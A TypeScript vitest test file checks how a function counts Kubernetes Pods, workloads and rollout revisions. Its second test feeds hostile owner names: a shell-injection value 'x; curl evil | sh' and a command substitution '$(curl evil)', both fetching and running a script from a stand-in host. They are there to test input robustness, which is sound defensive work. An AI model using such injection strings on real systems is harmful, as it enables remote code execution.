import { expect, it } from 'vitest'
import type { JsonObject } from '../../json/json.ts'
import { countUsers } from './profile-users.ts'

function pod(name: string, owner?: readonly [kind: string, name: string], hash?: string): JsonObject {
  const ownerReferences = owner && [{ kind: owner[0], name: owner[1], uid: 'u', controller: true }]
  const labels = hash === undefined ? undefined : { 'pod-template-hash': hash }
  return {
    metadata: {
      namespace: 'shop',
      name,
      ...(labels && { labels }),
      ...(ownerReferences && { ownerReferences }),
    },
  }
}

const has = (key: string, ...others: readonly string[]) => ({ key, revisions: ['a', ...others] })

it('counts Pods, workloads and revisions, and a Deployment once during a rollout', () => {
  const users = countUsers()
  users.add(pod('web-1', ['ReplicaSet', 'web-5f4cf'], '5f4cf'), [has('/logging', 'b'), has('shop/own')])
  users.add(pod('web-2', ['ReplicaSet', 'web-99999'], '99999'), [has('/logging')])
  users.add(pod('bare-set', ['ReplicaSet', 'web']), [has('/logging')])
  users.add(pod('db-0', ['StatefulSet', 'db']), [has('/logging')])
  users.add(pod('db-1', ['StatefulSet', 'db']), [has('/logging')])
  users.add(pod('alone'), [has('/logging')])
  users.add(pod('other'), [])
  expect(Object.fromEntries(users.result())).toEqual({
    '/logging': { pods: 6, workloads: 4, revisions: new Set(['a', 'b']) },
    'shop/own': { pods: 1, workloads: 1, revisions: new Set(['a']) },
  })
})

it('counts a Pod with a forged owner as a Pod without a controller', () => {
  const users = countUsers()
  users.add(pod('a', ['ReplicaSet', 'x'.repeat(1_000_000)]), [has('/logging')])
  users.add(pod('b', ['ReplicaSet', 'x; curl evil | sh']), [has('/logging')])
  users.add(pod('c', ['$(curl evil)', 'x']), [has('/logging')])
  expect(Object.fromEntries(users.result())).toEqual({
    '/logging': { pods: 3, workloads: 3, revisions: new Set(['a']) },
  })
})
